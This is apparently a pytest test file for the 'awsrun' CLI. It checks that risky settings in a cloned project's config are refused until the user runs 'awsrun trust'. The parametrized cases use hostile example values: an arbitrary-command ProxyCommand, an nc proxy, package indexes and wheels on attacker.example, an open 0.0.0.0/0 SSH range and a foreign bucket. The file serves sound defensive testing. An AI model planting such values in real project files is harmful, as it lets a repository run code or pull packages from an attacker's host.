"""A cloned project's awsrun.toml / [tool.awsrun] cannot run commands on this machine or widen exposure on
its own: such settings are honoured only after `awsrun trust`, which remembers the file's path and content
(any change asks again); otherwise one line names the setting and the command. The real CLI, an SSH cluster
on a loopback host for the ProxyCommand."""
from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from awsrun.errors import ConfigError
from awsrun.settings import load_settings
from awsrun.trust import TrustStore
from tests.harness.clusters import ssh_cluster  # noqa: F401 (fixture)


def hostile_proxy(project: Path, marker: Path) -> str:
    """What a cloned repository could ship: a ProxyCommand that runs anything (here: leaves a mark)."""
    command = f"sh -c {shlex.quote(f'touch {marker}; exit 1')} %h %p"
    (project / "awsrun.toml").write_text(f"ssh_proxy_command = {json.dumps(command)}\ninstance_type = \"p2.xlarge\"\n")
    return command


def test_a_project_files_proxy_command_never_runs_before_awsrun_trust(cli, ssh_cluster, project, tmp_path):
    marker = tmp_path / "ran"
    hostile_proxy(project, marker)
    no_env_proxy = {"AWSRUN_SSH_PROXY_COMMAND": ""}  # the user's own setting would win over the file's

    refused = cli("ssh", "--", "true", env=no_env_proxy)
    assert refused.exit_code == 2 and "Traceback" not in refused.stderr, refused
    first = refused.stderr.splitlines()[0]
    assert first.startswith("error: ") and "ssh_proxy_command" in first and "not trusted" in first, refused
    assert "`awsrun trust`" in refused.stderr
    assert not marker.exists()
    assert cli("jobs", env=no_env_proxy).exit_code == 2 and not marker.exists()

    trusted = cli("trust")
    assert trusted.exit_code == 0 and "ssh_proxy_command" in trusted.stderr + trusted.stdout, trusted
    cli("ssh", "--", "true", env=no_env_proxy)
    assert marker.exists()  # honoured now: the user chose to

    marker.unlink()
    (project / "awsrun.toml").write_text((project / "awsrun.toml").read_text() + "# changed upstream\n")
    again = cli("ssh", "--", "true", env=no_env_proxy)
    assert again.exit_code == 2 and "ssh_proxy_command" in again.stderr and not marker.exists(), again


def test_settings_that_change_nothing_risky_load_from_a_project_file_without_trust(cli, project):
    (project / "awsrun.toml").write_text('instance_type = "p2.xlarge"\nami = "dlami"\nautostop = "30m"\n')
    result = cli("config", "--json")
    assert result.exit_code == 0, result
    settings = json.loads(result.stdout)["settings"]
    assert (settings["instance_type"], settings["ami"], settings["autostop"]) == ("p2.xlarge", "dlami", "30m")


def test_the_same_settings_from_the_environment_need_no_trust(cli, project, tmp_path):
    hostile_proxy(project, tmp_path / "ran")
    result = cli("config", "--json", env={"AWSRUN_SSH_PROXY_COMMAND": "ssh -W %h:%p bastion"})
    assert result.exit_code == 0, result
    assert json.loads(result.stdout)["settings"]["ssh_proxy_command"] == "ssh -W %h:%p bastion"


@pytest.mark.parametrize("line", [
    'ssh_proxy_command = "nc %h %p"', 'caller_ip_url = "http://attacker.example/ip"', 'ssh_cidr = "0.0.0.0/0"',
    'checkpoint_bucket = "s3://someone-elses-bucket"', 'pip_args = "--index-url http://attacker.example/simple"',
    'torch_spec = "torch @ http://attacker.example/torch.whl"', 'ssh_key = "~/.ssh/id_ed25519"',
    'ami = "ami-0123456789abcdef0"',
])
@pytest.mark.parametrize("file", ["awsrun.toml", "pyproject.toml"])
def test_each_setting_that_needs_trust_is_refused_from_either_file_until_trusted(tmp_path, line, file):
    name = line.split(" = ")[0]
    text = line + "\n" if file == "awsrun.toml" else f"[project]\nname = 'x'\n\n[tool.awsrun]\n{line}\n"
    (tmp_path / file).write_text(text)
    store = TrustStore(tmp_path / "home")
    with pytest.raises(ConfigError) as refused:
        load_settings(tmp_path, {}, trusted=store.is_trusted)
    assert name in refused.value.message and "awsrun trust" in refused.value.hint
    store.trust(tmp_path / file, (tmp_path / file).read_bytes())
    assert getattr(load_settings(tmp_path, {}, trusted=store.is_trusted), name) is not None


